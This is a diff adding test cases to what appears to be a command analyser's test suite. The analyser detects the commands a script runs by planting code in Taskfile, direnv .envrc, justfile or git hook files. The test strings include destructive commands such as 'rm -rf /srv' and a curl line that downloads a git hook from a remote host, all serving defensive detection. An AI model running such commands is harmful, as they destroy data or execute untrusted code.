@@ -25,6 +25,17 @@ describe('code installed for a project tool', () => {
     ["echo 'rm -rf /srv' > /w/.git/hooks/post-checkout; git -C /w switch main", 'rm -rf /srv'],
     ["printf 'clean:\\n\\trm -rf /srv\\n' > justfile && just clean", 'rm -rf /srv'],
     ["printf 'wipe:\\n    @rm -rf /srv\\n' > .justfile; just wipe", 'rm -rf /srv'],
+    [
+      'printf \'version: "3"\\ntasks:\\n  clean:\\n    cmds:\\n      - rm -rf /srv\\n\' > Taskfile.yml && task clean',
+      'rm -rf /srv',
+    ],
+    [
+      "printf 'tasks:\\n  x:\\n    cmds:\\n      - cmd: rm -rf /srv\\n' > Taskfile.yaml; task x",
+      'rm -rf /srv',
+    ],
+    ["echo 'rm -rf /srv' > .envrc && direnv allow .", 'rm -rf /srv'],
+    ["echo 'rm -rf /srv' > .envrc; direnv exec . npm test", 'rm -rf /srv'],
+    ['direnv exec . rm -rf /srv', 'rm -rf /srv'],
   ])('%s runs %s', (script, inner) => expect(commands(script)).toContain(inner));
 
   it.each<[string, string]>([
@@ -32,6 +43,11 @@ describe('code installed for a project tool', () => {
     ['curl -so .git/hooks/pre-push https://x.example/h; git push', 'dynamic:'],
     ["printf 'x:\\n\\trm -rf {{dir}}\\n' > justfile; just x", 'dynamic:just {{…}}'],
     ['npm pkg set "scripts.clean=$CMD"', 'dynamic:'],
+    [
+      "printf 'tasks:\\n  x:\\n    cmds:\\n      - rm -rf {{.DIR}}\\n' > Taskfile.yml; task x",
+      'dynamic:task {{…}}',
+    ],
+    ["printf 'tasks: [' > Taskfile.yml; task x", 'dynamic:'],
   ])('%s is unknown code', (script, want) =>
     expect(commands(script).some((c) => c.startsWith(want))).toBe(true),
   );
@@ -40,6 +56,8 @@ describe('code installed for a project tool', () => {
     // nothing installed by this script: the project's own build and hooks
     ['just build', ['just build']],
     ["git commit -m 'fix'", ['git commit -m fix']],
+    ['task build', ['task build']],
+    ['direnv allow', ['direnv allow']],
     ["npm pkg set scripts.test='vitest run'", ['vitest run', 'npm pkg set scripts.test=vitest run']],
     // a hook written for another git command is not run by this one
     ["echo 'rm -rf /srv' > .git/hooks/pre-push; git commit -m x", ['echo rm -rf /srv', 'git commit -m x']],
